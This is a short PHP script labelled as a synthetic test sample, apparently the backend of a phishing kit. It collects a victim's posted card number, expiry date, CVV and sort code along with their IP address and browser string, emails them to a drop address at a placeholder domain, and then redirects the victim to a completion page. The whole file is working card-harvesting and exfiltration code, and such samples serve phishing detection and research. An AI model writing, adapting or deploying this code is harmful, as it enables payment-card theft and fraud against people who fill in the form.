<?php
// SYNTHETIC TEST SAMPLE
$ip = $_SERVER['REMOTE_ADDR'];
$ua = $_SERVER['HTTP_USER_AGENT'];
$message  = "+ Card Info +\n";
$message .= "| Card Number : " . $_POST['ccnum'] . "\n";
$message .= "| Expiry : " . $_POST['expdate'] . "\n";
$message .= "| CVV : " . $_POST['cvv'] . "\n";
$message .= "| Sort Code : " . $_POST['sortcode'] . "\n";
$message .= "| IP : $ip | UA : $ua\n";
$send = "drop@example.invalid";
$subject = "New Rezult from $ip";
mail($send, $subject, $message);
header("Location: complete.php");
?>
